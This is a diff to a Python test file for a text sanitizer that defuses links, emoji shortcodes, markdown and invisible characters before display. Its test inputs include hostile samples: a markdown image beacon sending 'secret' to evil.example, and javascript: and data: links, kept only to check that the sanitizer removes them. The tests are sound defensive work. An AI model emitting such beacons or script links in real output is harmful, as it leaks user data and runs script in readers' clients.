@@ -357,13 +357,15 @@ def test_a_fence_has_a_tag_of_its_own() -> None:
         ("Plain words, 10:30, 50% (really).", "Plain words, 10:30, 50% (really)."),
         ("a ![beacon](http://evil.example/?q=secret) b", "a b"),
         ("a ![beacon][ref] b", "a b"),
-        ("see [the page](https://a.example/x) now", "see the page (https\u2236//a.example/x) now"),
-        ("a [b](https://x.example/C_(d)) e", "a b (https\u2236//x.example/C\\_(d)) e"),
+        ("see [the page](https://a.example/x) now", "see the page (https:\u2060//a.example/x) now"),
+        ("a [b](https://x.example/C_(d)) e", "a b (https:\u2060//x.example/C\\_(d)) e"),
         ("see [this](javascript:alert(1)) or [that](data:text/html;base64,AA)", "see this or that"),
         (
             ":red[alarm] and :material/check_circle:",
-            "\\:red\\[alarm\\] and \u2236material/check_circle:",
+            "\\:red\\[alarm\\] and :\u2060material/check_circle:",
         ),
+        ("ddgs:brave, ddgs:wikipedia: none", "ddgs\\:brave, ddgs:\u2060wikipedia: none"),
+        ("see :+1: and :100:", "see :\u2060+1: and :\u2060100:"),
         ("costs $5 or $6", r"costs \$5 or \$6"),
         ("`code` and ```block```", r"\`code\` and \`\`\`block\`\`\`"),
         ("<b>bold</b> &lt;i&gt;", r"\<b\>bold\</b\> \&lt;i\&gt;"),
@@ -373,14 +375,14 @@ def test_a_fence_has_a_tag_of_its_own() -> None:
         ("- item\n- item", r"\- item - item"),
         ("== head", r"\== head"),
         ("| a | b |", r"\| a \| b \|"),
-        ("www.evil.example", "www\u2024evil.example"),
+        ("www.evil.example", "www\u2060.evil.example"),
         (
             "HTTP://evil.example and Www.evil.example",
-            "HTTP\u2236//evil.example and Www\u2024evil.example",
+            "HTTP:\u2060//evil.example and Www\u2060.evil.example",
         ),
-        ("write to me@evil.example", "write to me@evil\u2024example"),
-        ("a.b+c@mail.evil.example, x@y", "a.b+c@mail\u2024evil\u2024example, x@y"),
-        ("mailto:me@evil.example", "mailto\\:me@evil\u2024example"),
+        ("write to me@evil.example", "write to me@evil\u2060.example"),
+        ("a.b+c@mail.evil.example, x@y", "a.b+c@mail\u2060.evil\u2060.example, x@y"),
+        ("mailto:me@evil.example", "mailto\\:me@evil\u2060.example"),
         ("me&#64;evil.example", r"me\&#64;evil.example"),
         ("a\u202eb\x00c", "abc"),
         ("back\\slash", "back\\\\slash"),
@@ -414,7 +416,7 @@ def check_inert(text: str, limit: int) -> None:
     shown = clean_for_screen(text, limit)
     assert len(shown) <= limit
     assert "\n" not in shown
-    assert strip_invisible(shown) == shown
+    assert strip_invisible(shown) == shown.replace("\u2060", "")
     assert not LIVE.search(shown), shown
     assert not re.search(r":[\w+/-]*[a-zA-Z][\w+/-]*:", shown.replace("\\", ""))
     assert not re.match(r"[#+=-]|\d+[.)]", shown)
